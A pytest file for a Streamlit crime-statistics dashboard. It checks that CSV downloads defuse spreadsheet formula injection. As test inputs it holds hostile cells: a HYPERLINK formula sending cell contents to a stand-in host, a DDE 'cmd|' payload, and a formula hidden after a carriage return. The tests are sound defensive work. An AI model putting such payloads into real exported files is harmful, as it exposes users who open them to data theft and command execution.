"""What a visitor downloads: CSVs whose text cannot run as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard.common.spreadsheet import spreadsheet_csv
from dashboard.web.elements import csv_bytes
from tests.app_helpers import APP, downloaded_csv, show_tables


def rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://elsewhere.example/?"&A1,"Click")',
        "+13% on 566",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_cell_that_starts_like_a_formula_is_downloaded_with_a_quote_in_front(cell):
    ((header,), (shown,)) = rows(spreadsheet_csv(pd.DataFrame({"Note": [cell]})))
    assert (header, shown) == ("Note", "'" + cell)


def test_numbers_and_text_that_is_only_a_number_download_as_they_are():
    frame = pd.DataFrame(
        {"Value": [-2.5, 3.0, -1.0], "Change": ["-3.2", "+13%", "-1,234"], "Note": ["A note", None, "Falls 5% - then rises"]}
    )
    assert rows(spreadsheet_csv(frame)) == [
        ["Value", "Change", "Note"],
        ["-2.5", "-3.2", "A note"],
        ["3.0", "+13%", ""],
        ["-1.0", "-1,234", "Falls 5% - then rises"],
    ]


def test_every_download_button_uses_the_one_safe_csv():
    frame = pd.DataFrame({"Note": ["=1+1"], "Value": [-1]})
    assert csv_bytes(frame) == spreadsheet_csv(frame) == b"Note,Value\r\n'=1+1,-1\r\n"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    """Excel ends a row at a bare carriage return: unquoted, the text after it would be a cell starting '='."""
    data = spreadsheet_csv(pd.DataFrame({"Note": ['Fine\r=HYPERLINK("https://elsewhere.example")'], "Value": [1]}))
    assert data == b'Note,Value\r\n"Fine\r=HYPERLINK(""https://elsewhere.example"")",1\r\n'
    assert rows(data) == [["Note", "Value"], ['Fine\r=HYPERLINK("https://elsewhere.example")', "1"]]


def test_the_explorer_download_holds_the_notes_in_words_and_no_cell_that_starts_like_a_formula(use_real_db, downloads):
    """Hertfordshire's robbery figure for 2022-23 had the research note '+13% on 566' (issue 22 wrote it in words);
    the download button's CSV goes through spreadsheet_csv, which the tests above hold to the OWASP rule."""
    at = AppTest.from_file(APP, default_timeout=90)
    at.query_params.update(force="hertfordshire", metric="recorded_robbery", forces="hertfordshire")
    at.switch_page("pages/explorer.py")
    show_tables(at.run())
    assert not at.exception
    table = rows(downloaded_csv(at, downloads, "explore_time_csv"))
    notes = [row[table[0].index("Note")] for row in table[1:]]
    assert "Up 13% on the year before (566)." in notes
    assert not [cell for row in table[1:] for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
